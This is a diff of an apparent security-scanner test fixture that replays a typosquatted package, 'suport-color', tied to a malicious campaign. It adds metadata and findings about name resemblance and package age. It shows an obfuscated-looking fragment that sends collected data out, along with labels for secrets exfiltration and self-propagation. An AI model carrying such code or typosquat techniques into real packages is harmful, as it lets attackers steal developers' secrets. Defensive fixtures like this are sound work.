@@ -24,12 +24,14 @@ $request[«end»](JSON[«stringify»]($found)[«slice»](0x0,0x0));
 export const replay = replayAddition({
   description:
     'SANDWORM_MODE: misspelt names of assistants’ tools and of popular packages that worked as the real ones do, and on load planted a ' +
-    'rogue server in the settings of assistants, hooks in checkouts and an action in workflows. Its names are for the rules about names.',
+    'rogue server in the settings of assistants, hooks in checkouts and an action in workflows.',
   date: '2026-02-17',
+  reviewedAt: '2026-02-18T12:00:00Z',
   name: 'suport-color',
   added: [
     '1.0.1',
     {
+      published: '2026-02-17T12:00:00Z',
       manifest: { main: 'index.js' },
       files: {
         'index.js': "require('./lib/core')\nmodule.exports = require('./lib/durations')\n",
@@ -39,6 +41,9 @@ export const replay = replayAddition({
     },
   ],
   findings: [
+    ['name-resembles-popular', 'medium'],
+    ['package-young', 'medium'],
+    ['release-fresh', 'medium'],
     ['secrets-exfiltrated', 'critical', { file: 'lib/core.js', line: body }],
     ['secrets-harvested', 'critical', { file: 'lib/core.js', line: body }],
     ['self-propagation', 'critical', { file: 'lib/core.js', line: body }],
